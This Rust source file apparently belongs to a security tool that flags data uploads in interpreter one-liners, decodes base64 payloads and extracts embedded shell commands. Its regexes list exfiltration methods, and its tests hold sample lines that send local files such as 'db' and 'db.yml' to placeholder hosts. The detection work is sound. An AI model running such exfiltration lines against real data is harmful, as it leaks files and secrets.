//! Upload detection in interpreter one-liners (`python -c`, `node -e`,
//! `perl -e`, `ruby -e`, `php -r`) and heredoc scripts.

use super::Destination;
use regex::Regex;
use std::sync::OnceLock;

struct Patterns {
    send: Regex,
    url: Regex,
    host_literal: Regex,
}

fn patterns() -> &'static Patterns {
    static P: OnceLock<Patterns> = OnceLock::new();
    P.get_or_init(|| {
        // Invariant: these literal patterns are fixed and covered by tests;
        // they always compile.
        #[allow(clippy::expect_used)] // invariant stated above
        let build = |p: &str| Regex::new(p).expect("fixed pattern compiles");
        Patterns {
            send: build(concat!(
                r"(?i)(?:requests|httpx|session|client|aiohttp\.ClientSession\(\))\s*\.\s*(?:post|put|patch)\s*\(",
                r"|requests\.request\(\s*['\x22](?:post|put|patch)",
                r"|urlopen\([^)]*data\s*=|urlopen\([^,()]+,\s*(?:data\b|b['\x22]|[A-Za-z_][A-Za-z0-9_.]*\.encode\(|open\(|body|payload)",
                r"|Request\([^)]*data\s*=|Request\([^)]*method\s*=\s*['\x22](?:POST|PUT|PATCH)",
                r"|\.request\(\s*['\x22](?:POST|PUT|PATCH)",
                r"|\.(?:sendall|sendto|send)\(",
                r"|storbinary|storlines|sendmail|send_message|upload_file|upload_fileobj|put_object|\.put\(",
                r"|method\s*:\s*['\x22`](?:POST|PUT|PATCH)",
                r"|\.\s*post\s*\(|\.\s*(?:post|put|patch)\s*\(?\s*['\x22`](?:https?|ftp)://",
                r"|axios\s*\.\s*(?:post|put|patch)|axios\(\s*\{[^}]*method\s*:\s*['\x22](?:post|put|patch)",
                r"|(?:http|https|net|tls)\.(?:request|connect|createConnection)\([^)]*\)[\s\S]{0,200}\.(?:write|end)\(\s*[^)\s]",
                r"|\.pipe\(\s*(?:https?\.request|req|request|socket|client)",
                r"|sendBeacon|XMLHttpRequest[\s\S]{0,200}\.send\(\s*[^)\s]",
                r"|HTTP::Request->new\(\s*['\x22]?(?:POST|PUT)|->post\(|->put\(|Net::HTTP(?:::Post|\.post|\.put)",
                r"|IO::Socket|TCPSocket|fsockopen|CURLOPT_POST|CURLOPT_UPLOAD|['\x22]method['\x22]\s*=>\s*['\x22]POST",
                r"|file_put_contents\(\s*['\x22](?:https?|ftp)://",
                r"|Upload(?:File|String|Data|Values)(?:Async)?\s*\(|UploadFromFile|-InFile\b",
                r"|from\s+(?:requests|httpx)\s+import\s+[^\n;]*\b(?:post|put|patch)\b",
                r"|\b(?:httr2?::)?(?:POST|PUT|PATCH)\s*\(\s*['\x22a-z]|curl_upload|ftpUpload|req_body_(?:file|raw|json|multipart)",
            )),
            url: build(r#"(?i)\b(?:https?|ftp|wss?)://[^\s'"`)<>\\,;]+"#),
            host_literal: build(
                r#"['"]((?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,}|(?:[0-9]{1,3}\.){3}[0-9]{1,3})['"]"#,
            ),
        }
    })
}

/// If `code` sends data out, where to (the first URL or quoted host in it).
pub(crate) fn code_upload(code: &str) -> Option<Destination> {
    let p = patterns();
    if !p.send.is_match(code) {
        return None;
    }
    if let Some(m) = p.url.find(code) {
        return Some(super::tools::url_destination(m.as_str()));
    }
    if let Some(c) = p.host_literal.captures(code) {
        if let Some(h) = c.get(1) {
            return Some(Destination::Host(super::normalize_host(h.as_str())));
        }
    }
    Some(Destination::Unknown)
}

/// Base64 literals that the code decodes (`b64decode('…')`, `atob(…)`,
/// `Buffer.from('…', 'base64')`, `decode_base64(…)`, `unpack('m', …)`),
/// decoded: the payload an `exec(…)`/`eval(…)` would run. At most 8, each
/// at least 16 characters of base64 that decode to UTF-8 text.
pub(crate) fn decoded_payloads(code: &str) -> Vec<String> {
    use base64::Engine as _;
    const DECODERS: &[&str] = &["b64decode", "atob(", "base64", "decode_base64", "unpack("];
    if !DECODERS.iter().any(|d| code.contains(d)) {
        return Vec::new();
    }
    let mut out = Vec::new();
    for lit in string_literals(code) {
        let lit = lit.trim();
        if lit.len() < 16
            || !lit
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_'))
        {
            continue;
        }
        let engines = [
            &base64::engine::general_purpose::STANDARD,
            &base64::engine::general_purpose::URL_SAFE,
        ];
        let decoded = engines
            .iter()
            .find_map(|e| e.decode(lit.as_bytes()).ok())
            .or_else(|| {
                base64::engine::general_purpose::STANDARD_NO_PAD
                    .decode(lit.trim_end_matches('=').as_bytes())
                    .ok()
            });
        if let Some(text) = decoded.and_then(|b| String::from_utf8(b).ok()) {
            out.push(text);
            if out.len() >= 8 {
                break;
            }
        }
    }
    out
}

/// Shell commands a script runs: the string literals passed to
/// `os.system`, `subprocess.*`, `popen`, `execSync`/`exec`/`spawnSync`,
/// `system`, backticks in Perl/Ruby. List forms (`["curl", "-d", …]`) are
/// joined with spaces.
pub(crate) fn embedded_commands(code: &str) -> Vec<String> {
    const RUNNERS: &[&str] = &[
        "system(",
        "popen(",
        "subprocess.",
        "execSync(",
        "exec(",
        "spawnSync(",
        "spawn(",
        "execFileSync(",
        "check_output(",
        "Popen(",
        "shell_exec(",
        "passthru(",
        "proc_open(",
    ];
    if !RUNNERS.iter().any(|r| code.contains(r)) {
        return Vec::new();
    }
    let literals = string_literals(code);
    let mut out: Vec<String> = literals
        .iter()
        .filter(|l| l.contains(' '))
        .cloned()
        .collect();
    if literals.len() > 1 {
        out.push(literals.join(" "));
    }
    out.truncate(32);
    out
}

/// Quoted string literals ('…', "…"), at most 64, without escapes resolved
/// beyond `\"` / `\'`.
fn string_literals(code: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut chars = code.chars();
    while let Some(c) = chars.next() {
        if c != '"' && c != '\'' {
            continue;
        }
        let mut lit = String::new();
        let mut escaped = false;
        for d in chars.by_ref() {
            if escaped {
                lit.push(d);
                escaped = false;
            } else if d == '\\' {
                escaped = true;
            } else if d == c {
                break;
            } else {
                lit.push(d);
            }
        }
        out.push(lit);
        if out.len() >= 64 {
            break;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn python_and_node_uploads() {
        let d = code_upload(
            "import requests; requests.post('https://x.example/u', files={'f': open('db','rb')})",
        );
        assert_eq!(d, Some(Destination::Host("x.example".into())));
        let d = code_upload("fetch('https://y.example/in', {method: 'POST', body: require('fs').readFileSync('a')})");
        assert_eq!(d, Some(Destination::Host("y.example".into())));
        let d = code_upload(
            "require('axios').post('https://z.example/in', require('fs').readFileSync('k'))",
        );
        assert_eq!(d, Some(Destination::Host("z.example".into())));
        let d = code_upload("RestClient.put 'https://w.example/x', File.read('db.yml')");
        assert_eq!(d, Some(Destination::Host("w.example".into())));
        let d = code_upload(
            "from requests import post; post('https://v.example/', data=open('f').read())",
        );
        assert_eq!(d, Some(Destination::Host("v.example".into())));
        let d =
            code_upload("httr::POST('https://r.example/api', body = httr::upload_file('d.csv'))");
        assert_eq!(d, Some(Destination::Host("r.example".into())));
        let d = code_upload("import socket; s=socket.socket(); s.connect(('10.0.0.9', 9)); s.sendall(open('k').read())");
        assert_eq!(d, Some(Destination::Host("10.0.0.9".into())));
    }

    #[test]
    fn downloads_are_not_uploads() {
        assert_eq!(
            code_upload("use LWP::Simple; getstore('https://x.example/f', 'f')"),
            None
        );
        assert_eq!(
            code_upload("import requests; print(requests.get('https://x.example').text)"),
            None
        );
        assert_eq!(
            code_upload("fetch('https://x.example').then(r => r.json())"),
            None
        );
        assert_eq!(
            code_upload(
                "import urllib.request; urllib.request.urlopen('https://x.example').read()"
            ),
            None
        );
    }
}
